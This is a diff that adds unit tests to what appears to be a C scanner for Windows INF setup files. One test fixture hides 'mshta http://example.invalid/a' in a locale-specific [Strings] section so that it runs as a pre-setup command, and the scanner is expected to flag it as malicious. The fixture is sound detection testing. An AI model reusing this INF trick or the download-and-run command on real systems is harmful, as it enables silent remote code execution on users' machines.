@@ -283,6 +283,58 @@ static void test_one_command_without_an_inf(void **state)
     infscan_result_free(result);
 }
 
+static bool has_diagnostic(const struct infscan_result *result,
+                           const char *code)
+{
+    size_t n;
+    const struct infscan_diagnostic *diagnostics =
+        infscan_result_diagnostics(result, &n);
+
+    for (size_t i = 0; i < n; i++) {
+        if (strcmp(diagnostics[i].code, code) == 0) {
+            return true;
+        }
+    }
+    return false;
+}
+
+static void test_bytes_that_readers_take_differently(void **state)
+{
+    struct infscan_result *result = scan(STR("[A]\nk=C:\\\xE9\\b\n"));
+
+    (void)state;
+    assert_true(has_diagnostic(result, "INF0027"));
+    assert_false(has_diagnostic(result, "INF0028"));
+    infscan_result_free(result);
+    result = scan(STR("[A]\nk=C:\\e\\b\n\x01\x02\x03\x04\x05"));
+    assert_false(has_diagnostic(result, "INF0027"));
+    assert_true(has_diagnostic(result, "INF0028"));
+    infscan_result_free(result);
+}
+
+static void test_each_language_is_read(void **state)
+{
+    struct infscan_result *result =
+        scan(STR("[Version]\nSignature=$CHICAGO$\nAdvancedINF=2.5\n"
+                 "[DefaultInstall]\nRunPreSetupCommands=R\n[R]\n%c%\n"
+                 "[Strings]\nc=setup.exe\n[Strings.0419]\n"
+                 "c=mshta http://example.invalid/a\n"));
+    size_t n;
+    bool found = false;
+
+    (void)state;
+    assert_int_equal(infscan_result_summary(result)->verdict,
+                     INFSCAN_MALICIOUS);
+    const struct infscan_plan *plans = infscan_result_plans(result, &n);
+    for (size_t i = 0; i < n; i++) {
+        found = found ||
+                str_equal(str_of(plans[i].strings.bytes, plans[i].strings.len),
+                          STR("0419"));
+    }
+    assert_true(found);
+    infscan_result_free(result);
+}
+
 static void test_lines_of_the_file(void **state)
 {
     struct infscan_result *result = scan(STR("[A]\r\nk=1\r\n"));
@@ -307,6 +359,8 @@ int main(void)
         cmocka_unit_test(test_bad_options_are_refused),
         cmocka_unit_test(test_a_file_name_that_is_not_utf8),
         cmocka_unit_test(test_one_command_without_an_inf),
+        cmocka_unit_test(test_bytes_that_readers_take_differently),
+        cmocka_unit_test(test_each_language_is_read),
         cmocka_unit_test(test_lines_of_the_file),
     };
     return cmocka_run_group_tests(tests, set_up, tear_down);
